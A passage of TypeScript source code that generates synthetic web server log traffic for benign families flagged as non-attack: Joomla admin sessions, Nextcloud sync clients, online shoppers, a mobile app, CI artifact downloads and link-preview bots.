          push(req(t + w.int(5, 25) * second, 'POST', admin, 303, 0, `${site}/administrator/`, agent));
          let here = admin;
          push(
            ...pageLoad(
              w,
              t + w.int(100, 500),
              agent,
              admin,
              `${site}/administrator/`,
              [...base, `/media/com_cpanel/js/admin-cpanel-default.min.js?${mv}`],
              seen,
              { bytes: [30000, 52000] },
            ),
          );
          for (const q of [
            `option=com_joomlaupdate&task=update.ajax&${token}=1`,
            `option=com_installer&task=update.ajax&eid=0&skip=700&cache_timeout=3600&${token}=1`,
            `option=com_privacy&task=getNumberUrgentRequests&format=json&${token}=1`,
            `option=com_checkin&task=getMenuBadgeData&format=json&${token}=1`,
          ])
            push(req(t + w.int(50, 600), 'GET', `${admin}?${q}`, 200, w.int(60, 400), site + here, agent));
          let keepalive = t + 14 * minute;
          while (t < stop) {
            const view = w.pick(views);
            const list = `${admin}?option=${view}`;
            let at = t + w.int(3, 90) * second;
            // The keepalive of an open admin page: com_ajax every 14 minutes (a 15-minute session).
            while (keepalive < at) {
              push(req(Math.max(keepalive, t + w.int(50, 500)), 'GET', `${admin}?option=com_ajax&format=json`, 200, w.int(30, 60), site + here, agent));
              keepalive += 14 * minute + w.int(0, 800);
            }
            push(...pageLoad(w, Math.max(at, t + 1), agent, list, site + here, listAssets, seen, { bytes: [25000, 90000] }));
            here = list;
            if (view === 'com_media')
              for (const p of ['local-images%3A%2F', `local-images%3A%2F${w.pick(['banners', 'headers', 'sampledata', 'blog'])}`])
                push(
                  req(
                    t + w.int(200, 2000),
                    'GET',
                    `${admin}?option=com_media&format=json&mediatypes=0,1,2,3&task=api.files&url=true&path=${p}&${token}=1`,
                    200,
                    w.int(800, 30000),
                    site + here,
                    agent,
                  ),
                );
            if (w.rand() < 0.25) push(req(t + w.int(4, 40) * second, 'POST', list, 200, w.int(25000, 90000), site + here, agent));
            if (view === 'com_content&view=articles' || w.rand() < 0.2) {
              // Edit an article: the task answers 303 to the edit layout; saving answers 303 again.
              const id = w.int(1, 400);
              const component = 'com_content';
              push(req(t + w.int(3, 40) * second, 'GET', `${admin}?option=${component}&task=article.edit&id=${id}`, 303, 0, site + here, agent));
              const edit = `${admin}?option=${component}&view=article&layout=edit&id=${id}`;
              push(...pageLoad(w, t + w.int(100, 400), agent, edit, site + here, editAssets, seen, { bytes: [60000, 120000] }));
              at = t + w.int(1, 40) * minute;
              while (keepalive < at) {
                push(req(Math.max(keepalive, t + w.int(50, 500)), 'GET', `${admin}?option=com_ajax&format=json`, 200, w.int(30, 60), site + edit, agent));
                keepalive += 14 * minute + w.int(0, 800);
              }
              const close = w.rand() < 0.6;
              push(req(Math.max(at, t + 1), 'POST', `${admin}?option=${component}&layout=edit&id=${id}`, 303, 0, site + edit, agent));
              const next = close ? `${admin}?option=com_content&view=articles` : edit;
              push(...pageLoad(w, t + w.int(100, 400), agent, next, site + edit, close ? listAssets : editAssets, seen, { bytes: [25000, 120000] }));
              here = next;
            }
          }
          if (w.rand() < 0.4) {
            push(req(t + w.int(2, 30) * second, 'GET', `${admin}?option=com_login&task=logout&${token}=1`, 303, 0, site + here, agent));
            push(...pageLoad(w, t + w.int(100, 400), agent, admin, site + here, loginAssets, seen, { bytes: [5600, 6800] }));
          }
          yield* out;
          t += w.int(30, 360) * minute;
        }
      };
      w.add('admin', s(), { family: 'joomla-admin' });
    }
  },
};

// ---------------------------------------------------------------------------------------------------------
// Benign: sync clients, shoppers.

const NC_DESKTOP = [
  'Mozilla/5.0 (Windows) mirall/3.11.1stable-Win64 (build 20240201) (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 OsArchitecture: x86_64)',
  'Mozilla/5.0 (Windows) mirall/3.12.2stable-Win64 (build 20240321) (Nextcloud, windows-10.0.19045 ClientArchitecture: x86_64 OsArchitecture: x86_64)',
  'Mozilla/5.0 (Macintosh) mirall/3.12.0 (build 20240216) (Nextcloud, macos-23.3.0 ClientArchitecture: arm64 OsArchitecture: arm64)',
  'Mozilla/5.0 (Linux) mirall/3.11.0 (build 20231221) (Nextcloud, ubuntu-6.5.0-21-generic ClientArchitecture: x86_64 OsArchitecture: x86_64)',
];
const NC_MOBILE = ['Mozilla/5.0 (Android) Nextcloud-android/3.28.1', 'Mozilla/5.0 (Android) Nextcloud-android/3.27.0', 'Mozilla/5.0 (iOS) Nextcloud-iOS/5.2.3'];
const NC_FILES = [
  'Documents/Report%20Q1.docx',
  'Documents/Budget%202026.xlsx',
  'Documents/Notes.md',
  'Projects/Website/plan.odt',
  'Projects/Website/mockup-v3.png',
  'Shared/Team/minutes-2026-02-27.odt',
  'Photos/Holiday/IMG_4411.jpg',
  'Invoices/2026/INV-0042.pdf',
  'Templates/Letter.ott',
  'Work/slides.pptx',
];

const nextcloudUsers: Family = {
  name: 'nextcloud-users',
  attack: false,
  description:
    "Nextcloud desktop and mobile clients syncing: a PROPFIND every 30 s all day, GET/PUT and chunked uploads on /remote.php/dav, notification polls, 404s for apps the server hasn't installed",
  add(w, size) {
    // Apps this server has or not: a missing one answers every poll with 404.
    const notifications = w.rand() < 0.6;
    const userStatus = w.rand() < 0.7;
    // A maintenance window at night (backup, upgrade): every request answered 503.
    const maintenance = w.rand() < 0.5 ? w.start + w.int(1, 4) * hour + w.int(0, 59) * minute : 0;
    const maintenanceEnd = maintenance + w.int(3, 25) * minute;
    const names = [
      'anna',
      'jonas',
      'm.weber',
      'lea.k',
      'tobias',
      'sofia',
      'admin',
      'p.novak',
      'ines',
      'david',
      'marta',
      'oskar',
      'yuki',
      'lars',
      'nora',
      'ben',
    ];
    const users = shuffle(w, names).slice(0, Math.max(2, Math.round(w.int(3, 16) * size)));
    const office = w.address(false);
    const officeStreams: Array<Generator<Request>> = [];
    const ocs = (p: string, installed: boolean, t: number, agent: string): Request => {
      const down = maintenance && t >= maintenance && t < maintenanceEnd;
      const status = down ? 503 : installed ? (w.rand() < 0.7 ? 200 : 304) : 404;
      return req(t, 'GET', p, status, status === 304 ? 0 : status === 200 ? w.int(90, 2400) : w.int(120, 260), '-', agent);
    };
    // One device of one user: the hours it is on, what it asks for then.
    const device = (user: string, agent: string, mobile: boolean, windows: Array<[number, number]>): Generator<Request> => {
      const dav = `/remote.php/dav/files/${user}`;
      const root = w.int(380, 700);
      return (function* () {
        for (const [on, off] of windows) {
          let t = on;
          const out: Request[] = [];
          const at = (r: Request) => {
            if (maintenance && r.time >= maintenance && r.time < maintenanceEnd) {
              r.status = 503;
              r.bytes = w.int(300, 1200);
            }
            out.push(r);
          };
          // Start-up: server status, capabilities, the user, the avatar, the apps.
          for (const p of ['/status.php', '/ocs/v1.php/cloud/capabilities?format=json', '/ocs/v1.php/cloud/user?format=json', `/index.php/avatar/${user}/128`])
            at(req((t += w.int(50, 400)), 'GET', p, 200, w.int(150, 9000), '-', agent));
          at(ocs('/ocs/v2.php/apps/notifications/api/v2/notifications?format=json', notifications, (t += w.int(50, 400)), agent));
          if (!mobile) {
            at(ocs('/ocs/v2.php/apps/user_status/api/v1/user_status?format=json', userStatus, (t += w.int(50, 400)), agent));
            at(ocs('/ocs/v2.php/apps/end_to_end_encryption/api/v1/public-key?format=json', false, (t += w.int(50, 400)), agent));
            at(req((t += w.int(50, 400)), 'GET', '/ocs/v2.php/core/navigation/apps?absolute=true&format=json', 200, w.int(900, 3000), '-', agent));
          }
          let nextNotify = t + 5 * minute;
          const poll = mobile ? w.int(15, 60) * minute : 30 * second;
          for (; t < off; t += poll + w.int(0, 1500)) {
            // The root's properties: the same length unless a size or an etag gains a digit.
            at(req(t, 'PROPFIND', `${dav}/`, 207, root + (w.rand() < 0.1 ? w.int(-2, 2) : 0), '-', agent));
            if (t >= nextNotify) {
              at(ocs('/ocs/v2.php/apps/notifications/api/v2/notifications?format=json', notifications, t + w.int(100, 900), agent));
              nextNotify = t + 5 * minute;
            }
            // Something changed (here or on the server): list the folders, then download or upload.
            const h = (t - w.start) / hour;
            if (w.rand() > (h >= 8 && h < 19 ? (mobile ? 0.5 : 0.03) : 0.008)) continue;
            let a = t + w.int(100, 600);
            for (const folder of ['', w.pick(['Documents/', 'Projects/Website/', 'Shared/Team/', 'Photos/Holiday/'])])
              at(req((a += w.int(50, 400)), 'PROPFIND', `${dav}/${folder}`, 207, w.int(2000, 40000), '-', agent));
            for (let k = w.int(1, 6); k > 0; k--) {
              const file = w.pick(NC_FILES);
              const r = w.rand();
              if (mobile && r < 0.5) {
                const d = new Date(t);
                const stamp = `${d.getUTCFullYear()}${String(d.getUTCMonth() + 1).padStart(2, '0')}${String(d.getUTCDate()).padStart(2, '0')}_${w.int(70000, 235959)}`;
                at(req((a += w.int(500, 4000)), 'PUT', `${dav}/InstantUpload/Camera/2026/03/IMG_${stamp}.jpg`, 201, 0, '-', agent));
              } else if (r < 0.55) at(req((a += w.int(100, 2000)), 'GET', `${dav}/${file}`, 200, w.int(2000, 4_000_000), '-', agent));
              else if (r < 0.85) {
                // Written back: a small file in one PUT, a big one in chunks.
                if (w.rand() < 0.85) at(req((a += w.int(100, 2000)), 'PUT', `${dav}/${file}`, w.rand() < 0.03 ? w.pick([403, 412, 423]) : 204, 0, '-', agent));
                else {
                  const upload = `/remote.php/dav/uploads/${user}/${chars(w, 20, '0123456789abcdef')}`;
                  at(req((a += w.int(100, 500)), 'MKCOL', upload, 201, 0, '-', agent));
                  for (let c = 1, chunks = w.int(2, 24); c <= chunks; c++)
                    at(req((a += w.int(200, 3000)), 'PUT', `${upload}/${String(c).padStart(5, '0')}`, 201, 0, '-', agent));
                  at(req((a += w.int(300, 3000)), 'MOVE', `${upload}/.file`, w.rand() < 0.5 ? 201 : 204, 0, '-', agent));
                }
              } else if (r < 0.93) at(req((a += w.int(100, 2000)), 'MOVE', `${dav}/${file}`, 201, 0, '-', agent));
              else at(req((a += w.int(100, 2000)), 'DELETE', `${dav}/${file}`, 204, 0, '-', agent));
            }
            if (mobile)
              for (let k = w.int(2, 20); k > 0; k--)
                at(
                  req(
                    (a += w.int(20, 300)),
                    'GET',
                    `/index.php/core/preview?fileId=${w.int(1000, 90000)}&x=256&y=256&a=1&mode=cover&forceIcon=0`,
                    200,
                    w.int(4000, 30000),
                    '-',
                    agent,
                  ),
                );
            t = Math.max(t, a);
          }
          yield* inOrder(out);
        }
      })();
    };
    for (const user of users) {
      const laptop = w.rand() < 0.7;
      // A work laptop is on in working hours; a desktop left running syncs around the clock.
      const on = laptop ? w.start + w.int(7, 10) * hour + w.int(0, 59) * minute : w.start + w.int(0, 30) * minute;
      const off = laptop ? on + w.int(6, 10) * hour : end(w) - w.int(0, 30) * minute;
      const desktop = device(user, w.pick(NC_DESKTOP), false, [[on, off]]);
      if (laptop && w.rand() < 0.5) officeStreams.push(desktop);
      else w.add('sync', desktop, { v6: w.rand() < 0.2, family: 'nextcloud-users' });
      if (w.rand() < 0.7) {
        const opens: Array<[number, number]> = [];
        for (let t = w.start + w.int(6, 9) * hour; t < end(w) - hour; t += w.int(1, 4) * hour) opens.push([t, t + w.int(1, 40) * minute]);
        w.add('sync', device(user, w.pick(NC_MOBILE), true, opens), { v6: w.rand() < 0.3, family: 'nextcloud-users' });
      }
    }
    if (officeStreams.length) behind(w, office, 'sync', 'nextcloud-users', officeStreams);
  },
};

const PRODUCTS = [
  'trail-runner',
  'merino-hoodie',
  'rain-shell',
  'wool-socks',
  'day-pack-24l',
  'down-vest',
  'camp-mug',
  'beanie',
  'hiking-boot',
  'softshell-pants',
];
const CATEGORIES = ['women', 'men', 'kids', 'outdoor', 'sale', 'new-arrivals', 'accessories', 'footwear'];

const shoppersLogin: Family = {
  name: 'shoppers-login',
  attack: false,
  description:
    'shoppers of an online store: they browse with page assets and product images, log in a few times a day (POST 302, the odd wrong password answered with the form again), fill a cart and check out',
  add(w, size) {
    // The shop's software decides its URLs and how it answers a wrong password.
    const kind = w.pick(['plain', 'account', 'magento'] as const);
    const loginPage = kind === 'plain' ? '/login' : kind === 'account' ? '/account/login' : '/customer/account/login/';
    const loginPost = kind === 'magento' ? '/customer/account/loginPost/' : loginPage;
    const v = w.int(100, 999);
    const assets = [
      `/static/css/shop.${hex(w, 8)}.css`,
      `/static/js/shop.${hex(w, 8)}.js`,
      `/static/js/vendor.${hex(w, 8)}.js`,
      '/static/img/logo.svg',
      '/static/fonts/brand.woff2',
      '/favicon.ico',
    ];
    const productPage = () => {
      const id = w.int(1, 400);
      return [`/products/${w.pick(PRODUCTS)}-${id}`, id] as const;
    };
    const image = (id: number) => `/media/catalog/product/${id % 10}/${id}_${w.int(1, 4)}-600x600.webp?v=${v}`;
    for (let i = 0, shoppers = Math.max(4, Math.round(w.int(20, 120) * size)); i < shoppers; i++) {
      const mobile = w.rand() < 0.45;
      const agent = mobile ? w.pick(MOBILE) : w.pick(BROWSERS);
      const sessions = w.int(1, 4);
      const buys = w.rand() < 0.55;
      const s = function* (): Generator<Request> {
        let t = awake(w, 7, 23);
        const seen = new Set<string>();
        let bought = false;
        for (let n = 0; n < sessions && (n === 0 || t < end(w) - hour); n++) {
          const out: Request[] = [];
          const push = (...r: Request[]) => {
            out.push(...r);
            t = r[r.length - 1]!.time;
          };
          let here = '/';
          const view = (target: string, extra: string[] = [], bytes: [number, number] = [18000, 90000]) => {
            push(...pageLoad(w, t + w.int(3, 60) * second, agent, target, w.site + here, [...assets, ...extra], seen, { bytes }));
            here = target;
          };
          // Where the session comes from: a search, the newsletter, an ad, a bookmark.
          const [first, firstId] = w.rand() < 0.5 ? productPage() : ['/', 0];
          const entry = w.pick(['https://www.google.com/', '-', '-', 'https://www.bing.com/', 'https://l.instagram.com/', 'https://mail.google.com/']);
          push(...pageLoad(w, t, agent, first, entry, [...assets, ...(firstId ? [image(firstId)] : [])], seen, { bytes: [18000, 90000] }));
          here = first;
          const login = () => {
            view(`${loginPage}${w.rand() < 0.3 ? `?return_url=${encodeURIComponent(here)}` : ''}`, [], [6000, 9000]);
            const form = here;
            for (let miss = w.rand() < 0.2 ? w.int(1, 2) : 0; miss > 0; miss--) {
              if (kind === 'magento') {
                push(req(t + w.int(8, 40) * second, 'POST', loginPost, 302, 0, w.site + form, agent));
                push(req(t + w.int(100, 400), 'GET', loginPage, 200, w.int(6000, 9000), w.site + form, agent));
              } else push(req(t + w.int(8, 40) * second, 'POST', loginPost, 200, w.int(6200, 9400), w.site + form, agent));
            }
            push(req(t + w.int(6, 40) * second, 'POST', loginPost, 302, 0, w.site + form, agent));
            view(kind === 'magento' ? '/customer/account/' : '/account', [], [9000, 30000]);
          };
          // Customers log in at the start of many sessions (a new device, an expired session).
          if (w.rand() < 0.6) login();
          for (let p = w.int(2, 14); p > 0; p--) {
            const r = w.rand();
            if (r < 0.25) view(`/category/${w.pick(CATEGORIES)}${w.rand() < 0.3 ? `?page=${w.int(2, 6)}&sort=price-asc` : ''}`);
            else if (r < 0.35) view(`/search?q=${w.pick(PRODUCTS).split('-')[0]}`);
            else {
              const [page, id] = productPage();
              view(page, [image(id), image(id)]);
            }
          }
          if (buys && !bought && (n === sessions - 1 || w.rand() < 0.4)) {
            const [page, id] = productPage();
            view(page, [image(id)]);
            for (let k = w.int(1, 3); k > 0; k--) {
              push(req(t + w.int(5, 60) * second, 'POST', '/cart/add', 200, w.int(400, 2500), w.site + here, agent));
              if (k > 1) {
                const [other, oid] = productPage();
                view(other, [image(oid)]);
              }
            }
            view('/cart', [], [12000, 30000]);
            if (w.rand() < 0.4) push(req(t + w.int(5, 40) * second, 'POST', '/cart/update', 302, 0, w.site + here, agent));
            if (w.rand() < 0.4) view('/cart', [], [12000, 30000]);
            view('/checkout', [], [20000, 40000]);
            if (!out.some((r) => r.method === 'POST' && r.target === loginPost && r.status === 302)) {
              // Asked to sign in before paying.
              login();
              view('/checkout', [], [20000, 40000]);
            }
            for (const step of ['address', 'shipping', 'payment']) {
              push(req(t + w.int(10, 120) * second, 'POST', `/checkout/${step}`, 302, 0, w.site + here, agent));
              view(`/checkout/${step === 'payment' ? 'review' : step === 'address' ? 'shipping' : 'payment'}`, [], [15000, 35000]);
            }
            push(req(t + w.int(10, 90) * second, 'POST', '/checkout/place-order', 302, 0, w.site + here, agent));
            // Back from the card issuer's 3-D Secure page, to the order confirmation.
            const back = w.rand() < 0.5 ? 'https://checkout.stripe.com/' : w.site + here;
            here = `/checkout/confirmation?order=${w.int(100000, 999999)}`;
            push(...pageLoad(w, t + w.int(20, 120) * second, agent, here, back, assets, seen, { bytes: [15000, 30000] }));
            bought = true;
          }
          yield* out;
          t += w.int(30, 480) * minute;
        }
      };
      w.add('shopper', s(), { v6: w.rand() < 0.15, family: 'shoppers-login' });
    }
  },
};

// ---------------------------------------------------------------------------------------------------------
// Benign: more automation a site gets (apps behind carrier NAT, CI, link previews, its own infrastructure).

const mobileApp: Family = {
  name: 'mobile-app',
  attack: false,
  description:
    "the site's native app: a burst of 10-40 API calls and thumbnails each time it opens, background refreshes, push-token registration; most users behind a few carrier-grade NAT addresses",
  add(w, size) {
    const app = w.pick(['Hutbook', 'Alpinist', 'TrailMate', 'Stayfinder']);
    const ver = `${w.int(3, 6)}.${w.int(0, 20)}.${w.int(0, 4)}`;
    const build = w.int(1000, 9999);
    const api = `/api/mobile/v${w.int(2, 4)}`;
    const agents = [
      `${app}/${build} CFNetwork/1490.0.4 Darwin/23.2.0`,
      `${app}/${build} CFNetwork/1494.0.7 Darwin/23.4.0`,
      `${app}/${ver} (com.example.${app.toLowerCase()}; build:${build}; iOS 17.3.1) Alamofire/5.8.1`,
      'okhttp/4.12.0',
      `${app}/${ver} (Android 14; Pixel 8; okhttp/4.12.0)`,
      `${app}/${ver} (Android 13; SM-A536B; okhttp/4.12.0)`,
      'Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)',
    ];
    // One app user's day: opens (cold or warm), what they look at, background refreshes.
    const user = (agent: string): Generator<Request> =>
      (function* () {
        let t = awake(w, 6, 24);
        let registered = false;
        for (let opens = w.int(1, 8); opens > 0 && t < end(w); opens--) {
          const out: Request[] = [];
          let a = t;
          const call = (method: string, path: string, status: number, lo: number, hi: number, gap: [number, number] = [10, 250]) =>
            out.push(req((a += w.int(gap[0], gap[1])), method, path, status, status === 204 || status === 304 ? 0 : w.int(lo, hi), '-', agent));
          if (w.rand() < 0.6) {
            call('GET', `${api}/config?platform=${agent.includes('Darwin') || agent.includes('iOS') ? 'ios' : 'android'}&version=${ver}`, 200, 800, 4000);
            call('GET', `${api}/feature-flags`, w.rand() < 0.5 ? 304 : 200, 300, 2500);
            call('GET', `${api}/me`, 200, 400, 2000);
          }
          if (!registered) {
            call('POST', `${api}/devices`, 201, 80, 300);
            registered = true;
          }
          call('GET', `${api}/feed?limit=20`, 200, 8000, 60000);
          for (let k = w.int(6, 24); k > 0; k--) call('GET', `/img/w_320/${w.int(10000, 99999)}.webp`, 200, 6000, 40000, [5, 120]);
          // Using it: details with their pictures, more of the feed, a search, a favourite.
          for (let k = w.int(0, 12); k > 0; k--) {
            const r = w.rand();
            const id = w.int(1, 5000);
            if (r < 0.45) {
              call('GET', `${api}/items/${id}`, 200, 1500, 12000, [2000, 40000]);
              call('GET', `${api}/items/${id}/reviews?limit=10`, 200, 500, 8000);
              for (let p = w.int(1, 6); p > 0; p--) call('GET', `/img/w_1080/${w.int(10000, 99999)}.webp`, 200, 40000, 250000, [5, 200]);
            } else if (r < 0.7) {
              call('GET', `${api}/feed?limit=20&cursor=${chars(w, 16)}`, 200, 8000, 60000, [1500, 15000]);
              for (let p = w.int(4, 16); p > 0; p--) call('GET', `/img/w_320/${w.int(10000, 99999)}.webp`, 200, 6000, 40000, [5, 120]);
            } else if (r < 0.85) {
              const word = w.pick(WORDS);
              for (let n = 3; n <= word.length; n++) call('GET', `${api}/search?q=${word.slice(0, n)}`, 200, 200, 9000, n === 3 ? [2000, 20000] : [180, 500]);
            } else call('POST', `${api}/favorites`, 201, 40, 200, [1000, 20000]);
          }
          // The analytics batch as the app goes to the background.
          call('POST', `${api}/events`, 202, 0, 30, [1000, 30000]);
          yield* out;
          t = a + w.int(20, 240) * minute;
          // Background refreshes while closed (the phone decides when).
          for (let b = w.int(0, 2), at = a + w.int(30, 120) * minute; b > 0 && at < t && at < end(w); b--, at += w.int(30, 120) * minute)
            yield req(at, 'GET', `${api}/sync?since=${Math.floor((at - hour) / 1000)}`, 200, w.int(200, 6000), '-', agent);
        }
      })();
    // Carrier-grade NAT: hundreds of phones on a handful of addresses (some mobile browsing with them).
    for (let c = 0, carriers = w.int(2, 6); c < carriers; c++) {
      const streams: Array<Generator<Request>> = [];
      for (let u = Math.round(w.int(15, 100) * size); u > 0; u--) streams.push(user(w.pick(agents)));
      for (let b = Math.round(w.int(2, 20) * size); b > 0; b--) streams.push(w.visitor(w.int(5, 60), w.pick(MOBILE), awake(w), DAY, 1));
      behind(w, w.address(false), 'app', 'mobile-app', streams);
    }
    // Users at home, on their own Wi-Fi address (IPv6 mostly on their own too).
    for (let u = Math.round(w.int(20, 120) * size); u > 0; u--) w.add('app', user(w.pick(agents)), { v6: w.rand() < 0.4, family: 'mobile-app' });
  },
};

const ciArtifacts: Family = {
  name: 'ci-artifacts',
  attack: false,
  description:
    "CI jobs pulling release artifacts, apt packages and container images (the registry's 401 then token handshake): matrix builds in bursts from cloud runners, a nightly run through one self-hosted NAT",
  add(w, size) {
    const tool = w.pick(['logwarden', 'hutctl', 'trailsync']);
    const ver = `${w.int(1, 3)}.${w.int(0, 20)}.${w.int(0, 9)}`;
    const nets = Array.from({ length: w.int(2, 5) }, () => w.net());
    const layers = Array.from({ length: w.int(3, 8) }, () => hex(w, 64));
    const manifest = hex(w, 64);
    const inRelease = hex(w, 64);
    // The Docker versions of the runner images (one per image, the same on every runner of it).
    const docker = [
      `docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.5.0-1016-azure os/linux arch/amd64 UpstreamClient(Docker-Client/24.0.7 \\(linux\\))`,
      `docker/25.0.${w.int(0, 5)} go/go1.21.${w.int(5, 8)} git-commit/${hex(w, 7)} kernel/6.5.0-${w.int(1010, 1025)}-aws os/linux arch/amd64 UpstreamClient(Docker-Client/25.0.3 \\(linux\\))`,
    ];
    // What one CI job fetches, by how it fetches it.
    const job = (t0: number, busy: boolean): Request[] => {
      const out: Request[] = [];
      let t = t0;
      const r = (method: string, target: string, status: number, bytes: number, agent: string, gap: [number, number] = [20, 400]) =>
        out.push(req((t += w.int(gap[0], gap[1])), method, target, status, bytes, '-', agent));
      const how = w.rand();
      if (how < 0.35) {
        const agent = w.pick(['curl/8.5.0', 'curl/7.81.0', 'Wget/1.21.2', 'Go-http-client/2.0', 'python-requests/2.31.0']);
        if (w.rand() < 0.5) r('GET', '/releases/latest', 302, 0, agent);
        const arch = w.pick(['linux-amd64', 'linux-arm64', 'darwin-arm64', 'windows-amd64']);
        r('GET', `/releases/download/v${ver}/${tool}-${ver}-${arch}.tar.gz`, 200, w.int(8_000_000, 40_000_000), agent);
        r('GET', `/releases/download/v${ver}/SHA256SUMS`, 200, w.int(400, 900), agent, [500, 6000]);
      } else if (how < 0.6) {
        const agent = w.pick(['Debian APT-HTTP/1.3 (2.4.11)', 'Debian APT-HTTP/1.3 (2.6.1)', 'Debian APT-HTTP/1.3 (2.7.14)']);
        r('GET', '/apt/dists/stable/InRelease', w.rand() < 0.6 ? 304 : 200, 0, agent);
        if (out[out.length - 1]!.status === 200) {
          out[out.length - 1]!.bytes = w.int(2500, 4000);
          r('GET', `/apt/dists/stable/main/binary-amd64/by-hash/SHA256/${inRelease}`, 200, w.int(2000, 9000), agent);
        }
        r('GET', `/apt/pool/main/${tool[0]}/${tool}/${tool}_${ver}_amd64.deb`, 200, w.int(5_000_000, 20_000_000), agent, [500, 20000]);
      } else {
        // A container registry: the first /v2/ answers 401, the token, then the manifest and the layers.
        const agent = w.pick(docker);
        const repo = `acme/${tool}`;
        r('GET', '/v2/', 401, 87, agent);
        if (busy && w.rand() < 0.08) {
          r('GET', `/token?scope=repository%3A${repo.replace('/', '%2F')}%3Apull&service=registry.example.org`, 429, 120, agent);
          t += w.int(10, 60) * second;
        }
        r('GET', `/token?scope=repository%3A${repo.replace('/', '%2F')}%3Apull&service=registry.example.org`, 200, w.int(900, 1400), agent);
        r('HEAD', `/v2/${repo}/manifests/${ver}`, 200, 0, agent);
        r('GET', `/v2/${repo}/manifests/sha256:${manifest}`, 200, w.int(1200, 3000), agent);
        for (const layer of layers) r('GET', `/v2/${repo}/blobs/sha256:${layer}`, w.rand() < 0.7 ? 307 : 200, w.int(0, 400), agent, [5, 150]);
      }
      return out;
    };
    // Cloud runners: every push starts a matrix of jobs together, each on a fresh runner.
    const runners = new Map<string, Request[]>();
    for (let p = Math.round(w.int(10, 80) * size); p > 0; p--) {
      const at = awake(w, 8, 20);
      for (let m = w.int(2, 40); m > 0; m--) {
        const address = w.rand() < 0.7 || runners.size === 0 ? w.address(false, w.pick(nets)) : w.pick([...runners.keys()]);
        const list = runners.get(address) ?? [];
        list.push(...job(at + w.int(5, 90) * second, false));
        runners.set(address, list);
      }
    }
    for (const [address, list] of runners) w.add('ci', inOrder(list), { address, family: 'ci-artifacts' });
    // A company's self-hosted runners behind one address: its day's builds, and the nightly run all at once.
    const nat: Request[] = [];
    for (let p = w.int(5, 40); p > 0; p--) {
      const at = awake(w, 8, 20);
      for (let m = w.int(1, 12); m > 0; m--) nat.push(...job(at + w.int(2, 60) * second, false));
    }
    const nightly = w.start + w.int(1, 4) * hour + w.int(0, 59) * minute;
    for (let m = Math.round(w.int(50, 250) * Math.max(0.3, size)); m > 0; m--) nat.push(...job(nightly + w.int(0, 240) * second, true));
    w.add('ci', inOrder(nat), { family: 'ci-artifacts' });
  },
};

const INSTANCES = [
  'mastodon.social',
  'fosstodon.org',
  'hachyderm.io',
  'mstdn.social',
  'infosec.exchange',
  'chaos.social',
  'mas.to',
  'social.vivaldi.net',
  'mastodon.online',
  'techhub.social',
];

const linkPreviews: Family = {
  name: 'link-previews',
  attack: false,
  description:
    "link-preview fetchers bursting when a post is shared: Facebook, Twitter, Slack, Discord, Telegram, LinkedIn from pools of addresses, WhatsApp and iMessage from the sharer's phone, and a Mastodon stampede of hundreds of instances within minutes",
  add(w, size) {
    const bots: ReadonlyArray<{ agents: string[]; pool: number; image: boolean }> = [
      {
        agents: ['facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)'],
        pool: 20,
        image: true,
      },
      { agents: ['Twitterbot/1.0'], pool: 6, image: true },
      { agents: ['Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)', 'Slack-ImgProxy (+https://api.slack.com/robots)'], pool: 6, image: true },
      {
        agents: [
          'Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)',
          'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:38.0) Gecko/20100101 Firefox/38.0',
        ],
        pool: 4,
        image: true,
      },
      { agents: ['TelegramBot (like TwitterBot)'], pool: 3, image: true },
      { agents: ['LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)'], pool: 4, image: true },
    ];
    const pools = bots.map((b) => {
      const net = w.net();
      return Array.from({ length: w.int(2, b.pool) }, () => w.address(false, w.rand() < 0.8 ? net : undefined));
    });
    const byAddress = new Map<string, Request[]>();
    const put = (address: string, r: Request) => {
      const list = byAddress.get(address);
      if (list) list.push(r);
      else byAddress.set(address, [r]);
    };
    const phones = new Map<string, Request[]>();
    for (let shared = w.int(2, 10); shared > 0; shared--) {
      const post = w.int(1, 400);
      const page = `/blog/post-${post}`;
      const og = `/static/img/og/post-${post}.jpg`;
      const at = awake(w, 7, 22);
      // Each share on a platform: its fetchers ask for the page (and robots.txt, the og:image) within seconds.
      for (let s = w.int(3, 25); s > 0; s--) {
        const b = w.int(0, bots.length - 1);
        const bot = bots[b]!;
        let t = at + Math.floor(w.rand() * w.rand() * 6 * hour);
        for (let k = w.int(1, b === 0 ? 6 : 2); k > 0; k--) {
          const address = w.pick(pools[b]!);
          const agent = bot.agents[0]!;
          if (b === 1 && w.rand() < 0.3) put(address, req((t += w.int(10, 300)), 'GET', '/robots.txt', 200, w.int(60, 400), '-', agent));
          const head = b === 2 && w.rand() < 0.4;
          put(
            address,
            req((t += w.int(10, 800)), head ? 'HEAD' : 'GET', page, b === 0 && w.rand() < 0.3 ? 206 : 200, head ? 0 : w.int(20000, 80000), '-', agent),
          );
          if (bot.image && w.rand() < 0.8)
            put(w.pick(pools[b]!), req((t += w.int(100, 2000)), 'GET', og, 200, w.int(40000, 300000), '-', bot.agents[bot.agents.length - 1]!));
        }
      }
      // Shared in a chat from a phone: the preview is fetched by the sharer's own device.
      for (let s = w.int(0, 6); s > 0; s--) {
        const t = at + Math.floor(w.rand() * 8 * hour);
        const agent =
          w.rand() < 0.5
            ? `WhatsApp/2.24.${w.int(1, 9)}.${w.int(10, 80)} A`
            : 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0';
        const phone = w.address(w.rand() < 0.4);
        phones.set(phone, [
          req(t, 'GET', page, 200, w.int(20000, 80000), '-', agent),
          req(t + w.int(200, 1500), 'GET', og, 200, w.int(40000, 300000), '-', agent),
        ]);
      }
      // Posted on Mastodon: every instance with a follower fetches the card within a few minutes.
      if (w.rand() < 0.5) {
        for (let n = Math.round(w.int(80, 900) * Math.max(0.3, size)); n > 0; n--) {
          const name =
            n <= INSTANCES.length
              ? INSTANCES[n - 1]!
